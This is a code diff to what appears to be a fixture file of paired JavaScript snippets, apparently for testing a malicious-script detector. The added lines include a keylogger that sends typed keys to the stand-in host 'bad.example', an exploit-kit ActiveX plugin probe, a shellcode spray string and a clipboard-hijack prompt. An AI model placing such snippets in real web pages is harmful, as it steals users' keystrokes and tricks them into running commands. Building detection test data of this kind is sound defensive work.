@@ -25,12 +25,12 @@ export const SHOWN_JS: Pairs<typeof JS> = {
   )('-9999px', '10px'),
   shellcode: script(`s = '${'%u4141'.repeat(8)}';`, `s = '${'%u4141'.repeat(7)}';`),
   exploitKit: script(
+    "new ActiveXObject(['ShockwaveFlash', 'AcroPDF', 'Silverlight', 'QuickTime', 'RealPlayer'][n]);",
     "p = ['ShockwaveFlash', 'AcroPDF', 'Silverlight', 'QuickTime', 'RealPlayer'];",
-    "p = ['ShockwaveFlash', 'AcroPDF', 'Silverlight', 'QuickTime'];",
   ),
   keyLogger: within((then) => `document.onkeypress = (e) => { s += String.fromCharCode(e.which); ${then} };`)(
+    "new Image().src = '//bad.example/a?' + s;",
     "new Image().src = '/a?' + s;",
-    'show(s);',
   ),
   clipboardCommand: within(
     (command) => `navigator.clipboard.writeText('${command}'); show('Press Win + R');`,
